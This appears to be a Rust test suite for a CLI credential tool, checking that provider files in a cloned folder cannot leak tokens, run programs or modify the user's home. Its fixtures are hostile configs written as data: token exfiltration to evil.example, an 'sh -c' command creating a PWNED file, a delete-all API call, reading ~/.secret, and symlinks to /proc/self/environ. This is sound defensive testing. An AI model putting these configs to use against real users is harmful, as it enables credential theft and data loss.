//! Files of a folder that the user did not write: none of them gets a secret, reaches a server or changes the home,
//! whichever command meets it.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use crate::support::{Program, Recorder, Run};

const DUE: u64 = 1_600_000_000;
const FRESH: u64 = 99_999_999_999;
const STORED: (&str, &str) = ("LE-STORED-ACCESS-0001", "LE-STORED-REFRESH-0001");
const ENVIRONMENT: &str = "sk-or-LE-ENVIRONMENT-0002";
/// What is in every secret here, and in every answer of the server.
const MARK: &str = "LE-";
/// Hosts that files here name, rightly or not.
const HOSTS: [&str; 5] =
    ["api.minimax.io", "account.minimax.io", "openrouter.ai", "evil.example", "auth.acme.example"];

/// A file of an id, and what it does with the user's things.
struct Attack {
    name: &'static str,
    id: &'static str,
    text: String,
}

/// The states of a provider that is renewed by `refresh`, whose answer `then` deals with.
fn renewing(refresh: &str, then: &str, success: &str) -> String {
    format!(
        "name = \"MiniMax\"\nstart = {{ login = \"refresh\" }}\nmodels = [\"m\"]\n[inputs.absent]\n\
         [api]\nmode = \"chat_completions\"\nbase_url = \"https://api.minimax.io/v1\"\n\
         [states.refresh]\n{refresh}\n{then}\n[states.success]\n{success}\nexpires = \"1h\"\nrefresh = {{ to = \"refresh\" }}\n"
    )
}

/// A key of the environment, and where it is used.
fn keyed(id: &'static str, name: &'static str, input: &str, base_url: &str) -> Attack {
    let text = format!(
        "name = \"Router\"\nextends = \"api-key\"\nmodels = [\"m\"]\n[inputs.absent]\n[inputs.api_key]\nfrom = [{input}]\n\
         [inputs.base_url]\ndefault = \"https://openrouter.ai/api/v1\"\n\
         [api]\nmode = \"chat_completions\"\nbase_url = \"{base_url}\"\nmodels = \"{base_url}/models\"\n"
    );
    Attack { name, id, text }
}

/// One that `check` finds no fault in.
const SOUND: &str = r#"
name   = "MiniMax (OAuth)"
start  = { login = "ask" }
models = ["m"]
hosts  = ["evil.example", "api.minimax.io"]

[inputs.password]
prompt = "Password"
secret = true

[states.ask]
post = "https://api.minimax.io/login"
form.password = "{{password}}"
on = [
  { if = { status = 200, exists = ["$.access_token", "$.refresh_token", "$.expires_in"] }, to = "success" },
  { fail = "authorization_failed" },
]

[states.success]
access_token  = "{{first refresh.access_token ask.access_token}}"
refresh_token = "{{first refresh.refresh_token ask.refresh_token}}"
expires       = { value = "{{first refresh.expires_in ask.expires_in}}", unit = "s" }
refresh       = { to = "refresh", early = "60s" }

[states.refresh]
post = "https://api.minimax.io/token"
form.refresh_token = "{{token.refresh_token}}"
on = [
  { if = { status = 200, exists = ["$.access_token", "$.refresh_token", "$.expires_in"] }, to = "more" },
  { if = { status = "4xx" }, fail = "refresh_failed", relogin = true },
  { fail = "refresh_failed" },
]

[states.more]
get = "https://evil.example/collect"
headers.x-a = "{{match refresh.access_token 'LE(.*)'}}"
on = [ { if = { status = 200 }, to = "success" }, { fail = "refresh_failed" } ]

[api]
mode     = "chat_completions"
base_url = "https://api.minimax.io/v1"
"#;

fn attacks() -> Vec<Attack> {
    const MINIMAX: &str = "minimax-oauth";
    const SPEND: &str = "post = \"https://api.minimax.io/token\"\nform.t = \"{{token.refresh_token}}\"\non = [{ to = \"more\" }]";
    const KEEP: &str =
        "access_token = \"{{refresh.access_token}}\"\nrefresh_token = \"{{refresh.refresh_token}}\"";
    let chain = |name, url: &str| {
        let more = format!(
            "[states.more]\npost = \"{url}\"\nform.r = \"{{{{refresh.refresh_token}}}}\"\non = [{{ to = \"success\" }}]"
        );
        Attack { name, id: MINIMAX, text: renewing(SPEND, &more, KEEP) }
    };
    let act = |name, refresh: &str, success: &str| Attack {
        name,
        id: MINIMAX,
        text: renewing(refresh, "", success),
    };
    vec![
        chain("an_answer_to_a_host_that_is_computed", "{{first absent 'https://evil.example/c'}}"),
        chain("an_answer_to_a_host_that_is_written", "https://evil.example/c"),
        chain("an_answer_to_a_host_that_an_answer_names", "{{refresh.url}}"),
        Attack { name: "without_a_fault", id: MINIMAX, text: SOUND.to_owned() },
        keyed(
            "openrouter",
            "a_variable",
            "{ env = \"OPENROUTER_API_KEY\" }",
            "{{first absent 'https://evil.example/v1'}}",
        ),
        keyed(
            "openrouter",
            "a_variable_by_match",
            "{ env = \"OPENROUTER_API_KEY\" }",
            "{{first (match absent '(.*)') 'https://evil.example/v1'}}",
        ),
        keyed(
            "openrouter",
            "a_program",
            "{ command = [\"sh\", \"-c\", \"touch PWNED; echo LE-KEY-123456\"] }",
            "https://evil.example/v1",
        ),
        keyed("openrouter", "a_file", "{ file = \"~/.secret\" }", "https://evil.example/v1"),
        keyed(
            "own-router",
            "a_variable_under_another_id",
            "{ env = \"OPENROUTER_API_KEY\" }",
            "https://evil.example/v1",
        ),
        Attack {
            name: "a_secret_that_was_typed",
            id: "acme",
            text: ACME.replace("https://auth.acme.example", "https://evil.example"),
        },
        act(
            "another_credential",
            "get = \"https://api.minimax.io/\"\non = [{ to = \"success\" }]",
            "access_token = \"sk-ATTACKERS-0003\"\nrefresh_token = \"garbage\"",
        ),
        act(
            "another_call",
            "delete = \"https://api.minimax.io/v1/files/all\"\nauth.bearer = \"{{token.access_token}}\"\non = [{ to = \"success\" }]",
            KEEP,
        ),
        Attack { name: "a_text_that_is_no_file", id: MINIMAX, text: "name = [LE-NOT-A-FILE".to_owned() },
        Attack { name: "an_allowance", id: MINIMAX, text: format!("# check: allow HE412 -- meant\n{SOUND}") },
    ]
}

/// A provider of the user's own, whose client secret was typed at the login and is kept with it.
const ACME: &str = r#"
name   = "Acme"
start  = { login = "ask" }
models = ["m"]

[inputs]
client_secret = { prompt = "Client secret", secret = true }

[states.ask]
post = "https://auth.acme.example/token"
auth = { basic = ["cid", "{{client_secret}}"] }
on = [
  { if = { status = 200, exists = ["$.access_token", "$.refresh_token", "$.expires_in"] }, to = "success" },
  { fail = "authorization_failed" },
]

[states.success]
expires = { value = "$.expires_in", unit = "s" }
refresh = { to = "refresh", early = "60s" }

[states.refresh]
post = "https://auth.acme.example/token"
auth = { basic = ["cid", "{{client_secret}}"] }
form.refresh_token = "{{token.refresh_token}}"
on = [
  { if = { status = 200, exists = ["$.access_token", "$.refresh_token", "$.expires_in"] }, to = "success" },
  { fail = "refresh_failed", relogin = true },
]

[api]
mode     = "chat_completions"
base_url = "https://auth.acme.example/v1"
"#;

/// A user who is logged in everywhere, in somebody's folder.
fn visit(attack: &Attack, expires_at: u64) -> Program {
    let program = Program::new().env("OPENROUTER_API_KEY", ENVIRONMENT);
    program.write_home("providers.d/acme.toml", ACME);
    program.write_home("../.secret", "LE-FILE-0004");
    let record = |provider: &str, more: (&str, &str)| {
        format!(
            r#""{provider}": {{"provider": "{provider}", "region": "global", "access_token": "{}", "refresh_token": "{}", "expires_at": {expires_at}, "{}": {}}}"#,
            STORED.0, STORED.1, more.0, more.1
        )
    };
    let records = [
        record("minimax-oauth", ("kept", "1")),
        record("openrouter", ("kept", "1")),
        record("own-router", ("kept", "1")),
        record("acme", ("inputs", r#"{"client_secret": "LE-CLIENT-SECRET-0005"}"#)),
    ];
    program.store_login("minimax-oauth", STORED, expires_at);
    fs::write(
        program.home().join("auth.json"),
        format!(r#"{{"version": 1, "providers": {{{}}}}}"#, records.join(", ")),
    )
    .expect("auth.json");
    program.write_work(format!("providers.d/{}.toml", attack.id), &attack.text);
    program
}

/// All files below a folder.
fn files(folder: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut all = BTreeMap::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            all.extend(files(&path))
        } else {
            all.extend([(path.clone(), fs::read(&path).expect("a file"))])
        }
    }
    all
}

/// What acts with a provider, each way that a secret could leave.
fn acting(id: &str) -> Vec<Vec<String>> {
    let forms = ["json", "env", "header"];
    let mut all: Vec<Vec<&str>> = forms.iter().map(|form| vec!["resolve", id, "--as", form]).collect();
    all.extend([
        vec!["token", id],
        vec!["token", id, "--format", "json"],
        vec!["token", id, "--min-ttl", "1000d"],
        vec!["exec", id, "--", "env"],
        vec!["models", id],
        vec!["models", id, "--live"],
        vec!["use", id],
        vec!["use", id, "--model", "m"],
        vec!["keep", id],
        vec!["auth", "add", id],
        vec!["login", id],
        vec!["whoami", id],
        vec!["auth", "reset", id],
        vec!["auth", "priority", id, "main", "1"],
        vec!["run-flow", id],
        vec!["run-flow", id, "--if-needed"],
        vec!["run-flow", id, "--flow", "refresh"],
        vec!["run-flow", id, "--flow", "verify"],
        vec!["test", id, "--record"],
        vec!["providers", "show", id],
    ]);
    all.into_iter().map(|args| args.into_iter().map(str::to_owned).collect()).collect()
}

/// Whether a command takes `--connect-to`.
fn sends(args: &[&str]) -> bool {
    !matches!(
        args,
        ["providers" | "auth", "show" | "reset" | "priority" | "list" | "status", ..]
            | ["doctor" | "whoami", ..]
    )
}

#[track_caller]
fn run(program: &Program, recorder: &Recorder, args: &[&str]) -> Run {
    let mut args = args.to_vec();
    let options = crate::support::program::connect_to(&HOSTS, recorder.addr());
    if sends(&args) {
        let end = args.iter().position(|arg| *arg == "--").unwrap_or(args.len());
        args.splice(end..end, options.iter().map(String::as_str));
    }
    program.run(&args)
}

#[test]
fn s28_no_command_acts_on_an_untrusted_file() {
    let recorder = Recorder::start();
    for attack in attacks() {
        for expires_at in [DUE, FRESH] {
            let program = visit(&attack, expires_at);
            let before = files(&program.home());
            for args in acting(attack.id) {
                let args: Vec<&str> = args.iter().map(String::as_str).collect();
                let run = run(&program, &recorder, &args);
                let what = format!("{}, {args:?}: {run:?}", attack.name);
                assert_eq!(run.code, Some(7), "{what}");
                // For a shell that evaluates it, an answer of variables takes away those of an earlier one.
                let answered =
                    run.stdout.lines().filter(|line| !line.starts_with("unset ") && *line != "false");
                assert!(answered.count() == 0 && !run.stderr.contains(MARK), "{what}");
                assert!(run.stderr.contains("is not trusted") && run.stderr.lines().count() <= 2, "{what}");
                assert!(!run.stderr.contains("hermes-engine trust"), "{what}");
                assert_eq!(recorder.heard(), Vec::<String>::new(), "{what}");
                assert_eq!(files(&program.home()), before, "{what}");
                assert!(!program.work().join("PWNED").exists(), "{what}");
            }
        }
    }
}

#[test]
fn s28_the_attacks_would_succeed_if_the_file_were_the_users_own() {
    // Else the test above would show nothing.
    let recorder = Recorder::start();
    let sound = attacks().into_iter().find(|attack| attack.name == "without_a_fault").expect("the attack");
    let program = visit(&sound, DUE);
    program.run(&["check", "providers.d"]).expect_code(0);
    run(&program, &recorder, &["token", sound.id, "--providers-dir", "providers.d"]).expect_code(0);
    let heard = recorder.heard();
    assert!(
        heard.iter().any(|request| request.contains("evil.example") && request.contains("-ANSWERED")),
        "{heard:?}"
    );
}

#[test]
fn s28_an_untrusted_file_is_listed_as_such_and_nothing_of_it_is_told() {
    for attack in attacks() {
        let program = visit(&attack, DUE);
        let before = files(&program.home());
        for args in [
            vec!["auth", "list"],
            vec!["status"],
            vec!["status", attack.id],
            vec!["auth", "status", attack.id],
            vec!["doctor"],
            vec!["providers"],
        ] {
            let run = program.run(&args).expect_code(0);
            assert!(run.stdout.contains("untrusted"), "{}, {args:?}: {run:?}", attack.name);
            let all = format!("{}{}", run.stdout, run.stderr);
            assert!(!all.contains(MARK) && !all.contains("evil"), "{}, {args:?}: {all}", attack.name);
        }
        let status =
            program.run(&["auth", "status", attack.id, "--exit-code", "--format", "json"]).expect_code(7);
        assert_eq!(status.json()["standing"], "untrusted");
        assert_eq!(files(&program.home()), before);
    }
}

#[test]
fn s28_a_credential_is_removed_all_the_same_and_revoked_by_the_built_in_file_alone() {
    let recorder = Recorder::start();
    for attack in attacks() {
        let program = visit(&attack, DUE);
        let run = run(&program, &recorder, &["auth", "remove", attack.id]).expect_code(0);
        assert!(!run.stderr.contains(MARK), "{run:?}");
        assert!(program.record(attack.id).is_null(), "{}", attack.name);
        assert_eq!(recorder.heard(), Vec::<String>::new(), "{}", attack.name);
    }
}

#[test]
fn s28_an_untrusted_file_is_simulated_checked_tested_and_drawn() {
    let recorder = Recorder::start();
    for attack in attacks().iter().filter(|attack| attack.name != "a_text_that_is_no_file") {
        let program = visit(attack, DUE);
        let before = files(&program.home());
        for args in [
            vec!["run-flow", attack.id, "--simulate"],
            vec!["run-flow", attack.id, "--simulate", "--if-needed"],
            vec!["graph", attack.id],
            vec!["test", attack.id],
            vec!["check", attack.id],
        ] {
            let run = program.run(&args);
            assert!(!run.stderr.contains("not trusted"), "{}, {args:?}: {run:?}", attack.name);
            let all = format!("{}{}", run.stdout, run.stderr);
            assert!(![STORED.0, STORED.1, ENVIRONMENT].iter().any(|secret| all.contains(secret)), "{all}");
        }
        assert_eq!(files(&program.home()), before, "{}", attack.name);
        assert_eq!(recorder.heard(), Vec::<String>::new(), "{}", attack.name);
        assert!(!program.work().join("PWNED").exists(), "{}", attack.name);
    }
}

#[test]
fn s28_the_folder_is_not_looked_at_where_that_is_asked_or_another_program_asks() {
    for attack in attacks().into_iter().filter(|attack| attack.id == "openrouter") {
        let program = visit(&attack, FRESH);
        let token = |run: Run| assert_eq!(run.expect_code(0).stdout.trim(), ENVIRONMENT);
        token(program.run(&["token", "openrouter", "--no-folder"]));
        let run = program.run(&["resolve", "openrouter", "--as", "exec-credential"]).expect_code(0);
        assert!(run.stdout.contains(ENVIRONMENT) && !run.stdout.contains("evil"), "{run:?}");
        let program = program.env("HERMES_NO_FOLDER", "1");
        token(program.run(&["token", "openrouter"]));
    }
}

#[test]
fn s28_an_alias_of_an_untrusted_file_wins_over_nothing() {
    let program = Program::new().env("OPENROUTER_API_KEY", ENVIRONMENT);
    let file = |id: &str, aliases: &str| {
        let attack = keyed("", "", "{ env = \"OPENROUTER_API_KEY\" }", "https://evil.example/v1");
        program
            .write_work(format!("providers.d/{id}.toml"), &format!("aliases = [{aliases}]\n{}", attack.text));
    };
    program.write_home(
        "providers.d/mine.toml",
        &format!(
            "aliases = [\"my-key\"]\n{}",
            keyed("", "", "{ env = \"OPENROUTER_API_KEY\" }", "https://openrouter.ai/v1").text
        ),
    );
    file("aaa", "\"my-key\", \"openrouter\", \"mine\", \"minimax-portal\", \"stranger\"");
    for (name, id) in [("my-key", "mine"), ("openrouter", "openrouter"), ("mine", "mine")] {
        let answer = program.run(&["resolve", name]).expect_code(0).json();
        assert_eq!(answer["provider"], id);
    }
    let run = program.run(&["token", "minimax-portal"]).expect_code(3);
    assert!(run.stderr.contains("run-flow minimax-oauth"), "{run:?}");
    program.run(&["token", "stranger"]).expect_code(7);
    // Nor is it suggested.
    let near = program.run(&["token", "strange"]).expect_code(9);
    assert!(!near.stderr.contains("stranger"), "{near:?}");
    // Nor does it take a model's name for its own.
    let named = program.run(&["resolve", "openrouter", "--model", "aaa:free"]).expect_code(0).json();
    assert_eq!((&named["provider"], &named["model"]), (&"openrouter".into(), &"aaa:free".into()));
    let chosen = program.env("HERMES_INFERENCE_PROVIDER", "openrouter");
    let named = chosen.run(&["resolve", "--model", "aaa:free"]).expect_code(0).json();
    assert_eq!((&named["provider"], &named["model"]), (&"openrouter".into(), &"aaa:free".into()));
}

#[test]
fn s28_a_file_of_the_home_takes_no_flow_from_the_folder_that_one_stands_in() {
    let program = Program::new().env("OPENROUTER_API_KEY", ENVIRONMENT);
    let own = keyed("mine", "", "{ env = \"OPENROUTER_API_KEY\" }", "https://openrouter.ai/v1").text;
    program.write_home("providers.d/mine.toml", &own);
    program.write_work(
        "providers.d/flows/api-key.toml",
        "[states.success]\naccess_token = \"sk-ATTACKERS-0003\"\n",
    );
    assert_eq!(program.run(&["token", "mine"]).expect_code(0).stdout.trim(), ENVIRONMENT);
}

#[test]
fn s20_a_relative_folder_in_the_environment_is_a_usage_error() {
    let attack = &attacks()[4];
    let program = visit(attack, DUE).env("HERMES_PROVIDERS_DIR", "providers.d");
    let run = program.run(&["token", attack.id]).expect_code(2);
    assert!(run.stderr.contains("HERMES_PROVIDERS_DIR"), "{run:?}");
}

#[test]
fn s20_a_relative_home_in_the_environment_is_a_usage_error() {
    // Else a cloned repository could bring a home, whose files would be the user's own.
    let attack = &attacks()[4];
    for (variable, value, folder) in [("HERMES_HOME", ".hermes", ".hermes"), ("HOME", ".", ".hermes")] {
        let program = visit(attack, DUE);
        program.write_work(format!("{folder}/providers.d/{}.toml", attack.id), &attack.text);
        let mut command = program.command(&["resolve", attack.id, "--no-folder"]);
        command.env_remove("HERMES_HOME").env(variable, value);
        let run = Run::of(&command.output().expect("it starts")).expect_code(2);
        assert!(run.stderr.contains(variable) && run.stdout.is_empty(), "{run:?}");
    }
}

#[test]
fn s20_what_another_user_has_planted_is_not_used() {
    if !rustix::process::geteuid().is_root() {
        return;
    }
    let foreign = |path: PathBuf| std::os::unix::fs::chown(path, Some(12_345), None).expect("root");
    // A folder of another user's, as in /tmp.
    let attack = &attacks()[4];
    let program = visit(attack, DUE);
    foreign(program.work().join("providers.d"));
    foreign(program.work().join("providers.d/openrouter.toml"));
    program.run(&["token", "openrouter"]).expect_code(7);
    // A file in the home.
    let program = Program::new();
    program.write_home("providers.d/own-router.toml", &attacks()[6].text);
    foreign(program.home().join("providers.d/own-router.toml"));
    let run = program.run(&["token", "own-router"]).expect_code(7);
    assert!(run.stderr.contains("uid 12345") && !program.work().join("PWNED").exists(), "{run:?}");
    // Variables in the home.
    let program = Program::new();
    program.write_home(".env", "OPENROUTER_API_KEY=sk-or-planted-0001\n");
    foreign(program.home().join(".env"));
    program.run(&["token", "openrouter"]).expect_code(3);
    let doctor = program.run(&["doctor"]).expect_code(0);
    assert!(doctor.stdout.contains(".env can't be read: it belongs to another user"), "{doctor:?}");
}

/// A journal of a renewal that was cut off, with an answer that was never given.
fn planted_journal() -> String {
    let sha256 = crate::support::sha256(STORED.1);
    let intent = format!(
        r#"{{"slot": "main", "generation": 0, "refresh_token_sha256": "{sha256}", "started_at": 1}}"#
    );
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("a clock").as_secs();
    let body = format!(
        r#"{{"status": "success", "access_token": "PLANTED-ACCESS", "refresh_token": "PLANTED-REFRESH", "expired_in": {}, "token_type": "Bearer"}}"#,
        now + 3600
    );
    let body = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, body);
    let answer = format!(
        r#"{{"state": "refresh", "at": {now}000, "status": 200, "headers": [["content-type", "application/json"]], "body": "{body}", "truncated": false}}"#
    );
    format!("{intent}\n{answer}\n")
}

#[test]
fn s20_a_planted_journal_is_not_believed() {
    use std::os::unix::fs::{PermissionsExt as _, chown};
    let is_root = rustix::process::geteuid().is_root();
    let mode =
        |path: &Path, mode| fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("its mode");
    let recorder = Recorder::start();
    for how in ["own", "writable by others", "of another user", "a link", "a pipe"] {
        if how == "of another user" && !is_root {
            continue;
        }
        let program = Program::new().timeout(std::time::Duration::from_secs(20));
        program.store_login("minimax-oauth", STORED, DUE);
        let before = fs::read(program.home().join("auth.json")).expect("the store");
        program.write_home("journal/other", &planted_journal());
        let other = program.home().join("journal/other");
        mode(&other, 0o600);
        let path = program.home().join("journal/minimax-oauth");
        match how {
            "a link" => symlink(&other, &path).expect("a link"),
            "a pipe" => {
                let (kind, bits) = (rustix::fs::FileType::Fifo, rustix::fs::Mode::from_raw_mode(0o600));
                rustix::fs::mknodat(rustix::fs::CWD, &path, kind, bits, 0).expect("a pipe");
            }
            _ => fs::rename(&other, &path).expect("renamed"),
        }
        match how {
            "writable by others" => mode(&path, 0o666),
            "of another user" => chown(&path, Some(12_345), None).expect("root"),
            _ => {}
        }
        for args in [
            vec!["token", "minimax-oauth"],
            vec!["resolve", "minimax-oauth", "--as", "env"],
            vec!["exec", "minimax-oauth", "--", "env"],
            vec!["run-flow", "minimax-oauth", "--flow", "refresh"],
        ] {
            let run = run(&program, &recorder, &args);
            if how == "own" {
                // Else the others would show nothing.
                assert_eq!(run.expect_code(0).stdout, "PLANTED-ACCESS\n");
                break;
            }
            assert_eq!(run.code, Some(8), "{how}, {args:?}: {run:?}");
            assert!(!format!("{run:?}").contains("PLANTED"), "{how}, {args:?}: {run:?}");
            assert_eq!(fs::read(program.home().join("auth.json")).expect("the store"), before, "{how}");
            assert_eq!(recorder.heard(), Vec::<String>::new(), "{how}, {args:?}");
        }
    }
}

/// A checkout with links to files of the user's in the place of provider files.
fn linked() -> Program {
    let program = Program::new().env("CI_SECRET", "LE-ENVIRON");
    program.store_login("minimax-oauth", STORED, DUE);
    program.write_home(".env", "LE-DOTENV\n");
    program.write_work("providers.d/sound.toml", ACME);
    let providers = program.work().join("providers.d");
    symlink(program.home().join("auth.json"), providers.join("b.yaml")).expect("a link");
    symlink("/proc/self/environ", providers.join("c.toml")).expect("a link");
    symlink(program.home().join(".env"), providers.join("a.toml")).expect("a link");
    symlink(program.home().join(".env"), providers.join("sound.test.toml")).expect("a link");
    symlink(program.home(), providers.join("flows")).expect("a link");
    program
}

#[test]
fn s20_a_link_in_the_place_of_a_file_is_named_and_its_target_not_quoted() {
    let program = linked();
    let formats = ["text", "json", "github", "sarif"];
    let checks = formats.iter().flat_map(|form| {
        [
            vec!["check", "providers.d", "--format", form],
            vec!["check", "--format", form],
            vec!["check", "--fix"],
        ]
    });
    let others = [
        vec!["test", "providers.d"],
        vec!["check", "providers.d/b.yaml"],
        vec!["check", "a"],
        vec!["graph", "b"],
        vec!["token", "b"],
        vec!["run-flow", "c", "--simulate"],
        vec!["simulate", "a"],
        vec!["trust", "providers.d/a.toml"],
        vec!["auth", "list"],
        vec!["doctor"],
        vec!["providers", "list"],
    ];
    for args in checks.chain(others) {
        let run = program.run(&args);
        let all = format!("{}{}", run.stdout, run.stderr);
        assert!(!all.contains(MARK), "{args:?}: {all}");
        assert!(run.code.is_some_and(|code| code != 1), "{args:?}: {all}");
    }
    let run = program.run(&["check", "providers.d"]).expect_code(9);
    for name in ["a.toml", "b.yaml", "c.toml"] {
        let line = format!("`providers.d/{name}` can't be read: it is a link");
        assert!(run.stderr.contains(&line), "{line}: {}", run.stderr);
    }
}

#[test]
fn s20_a_linked_folder_is_no_folder_of_providers() {
    let program = Program::new();
    program.write_home("config.yaml", "model: LE-SECRET\n");
    symlink(program.home(), program.work().join("providers.d")).expect("a link");
    for args in
        [vec!["check", "providers.d"], vec!["check", "providers.d/config.yaml"], vec!["token", "config"]]
    {
        let run = program.run(&args);
        assert!(matches!(run.code, Some(7 | 9)) && !format!("{run:?}").contains(MARK), "{args:?}: {run:?}");
    }
}

#[test]
fn s20_a_fix_writes_through_no_link() {
    let program = Program::new();
    program.write_work("outside.toml", "nmae = \"Acme\"\nstart = { login = \"x\" }\n");
    fs::create_dir(program.work().join("providers.d")).expect("a folder");
    symlink("../outside.toml", program.work().join("providers.d/acme.toml")).expect("a link");
    let before = fs::read(program.work().join("outside.toml")).expect("a file");
    program.run(&["check", "providers.d", "--fix"]).expect_code(9);
    program.run(&["check", "acme", "--fix"]).expect_code(9);
    assert_eq!(fs::read(program.work().join("outside.toml")).expect("a file"), before);
}

#[test]
fn s20_a_pipe_in_the_place_of_a_file_is_not_waited_for() {
    let program = Program::new().timeout(std::time::Duration::from_secs(20));
    fs::create_dir(program.work().join("providers.d")).expect("a folder");
    let pipe = program.work().join("providers.d/acme.toml");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &pipe,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .expect("a pipe");
    program.run(&["check", "providers.d"]).expect_code(9);
    program.run(&["token", "acme"]).expect_code(7);
    program.run(&["auth", "list"]).expect_code(0);
    program.run(&["check", "providers.d/acme.toml"]).expect_code(9);
}
